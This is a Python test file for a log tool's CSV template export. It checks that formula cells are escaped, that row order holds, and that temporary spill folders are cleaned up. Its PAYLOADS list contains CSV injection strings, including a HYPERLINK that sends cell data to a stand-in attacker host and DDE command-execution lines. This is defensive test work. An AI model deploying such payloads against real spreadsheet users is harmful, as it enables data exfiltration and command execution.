"""--export-templates: no cell a spreadsheet would run, the rows of every line in order,
and spill folders named like tokopt's temporaries and gone once the run is over."""

from __future__ import annotations

import csv
import fnmatch
import os
from pathlib import Path

import polars as pl
import pytest

from tokopt_pipeline.lib.engine import export
from tokopt_pipeline.lib.errors import OutputError
from tokopt_pipeline.lib.outputs import TEMP_GLOB, temp_owner
from tokopt_pipeline_tests.conftest import tokopt

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


def test_no_cell_starts_like_a_formula(tmp_path):
    lines = [f"2025-01-01 10:00:0{i} INFO ok step {i}" for i in range(5)] + PAYLOADS
    (tmp_path / "evil.log").write_text("\n".join(lines) + "\n")
    done = tokopt("evil.log", "--export-templates", "t.csv", "--no-store", cwd=tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["line_number", "template_id", "template"]
    assert [int(r[0]) for r in rows[1:]] == list(range(1, len(lines) + 1))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), row
    templates = [r[2] for r in rows[1 + 5:]]
    assert templates[0].startswith("'=HYPERLINK(") and templates[1].startswith("'+cmd"), templates  # shown, not run
    assert not list(tmp_path.glob(".*tokopt*")), "a spill folder is left"


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("-", "'-"), ("plain text", "plain text"), ("a=b", "a=b"), ("", ""), (" @x", "' @x"), ("\t", "'\t"),
])
def test_csv_safe(cell, safe):
    assert export.csv_safe(cell) == safe


class Miner:
    def template(self, tid: int) -> str:
        return f"template {tid}"


def _batch(start: int, n: int) -> pl.DataFrame:
    return pl.DataFrame({"line_no": pl.Series(range(start, start + n), dtype=pl.UInt64),
                         "tid": pl.Series([i % 7 for i in range(n)], dtype=pl.UInt32)})


def test_the_spill_folder_is_tokopts_and_removed_when_done_or_failed(tmp_path):
    exp = export.TemplateExporter(tmp_path / "t.csv")
    spill = exp._dir
    assert fnmatch.fnmatch(spill.name, TEMP_GLOB) and temp_owner(spill) == os.getpid()
    for start in (1, 1001, 2001):
        exp.add(_batch(start, 1000))
    exp.finish(Miner())
    assert not spill.exists()
    rows = (tmp_path / "t.csv").read_text().splitlines()
    assert rows[0] == "line_number,template_id,template" and len(rows) == 3001
    assert rows[1] == "1,0,template 0" and rows[-1] == "3000,5,template 5"

    exp = export.TemplateExporter(tmp_path / "u.csv")
    exp.add(_batch(1, 10))
    exp.discard()
    assert not exp._dir.exists() and not (tmp_path / "u.csv").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


def test_a_full_disk_is_an_output_error_and_leaves_nothing(tmp_path):
    exp = export.TemplateExporter(tmp_path / "t.csv")
    exp.add(_batch(1, 10))
    exp.path = Path("/dev/full")  # every write fails with ENOSPC
    with pytest.raises(OutputError, match="No space left"):
        exp.finish(Miner())
    assert sorted(p.name for p in tmp_path.iterdir()) == []
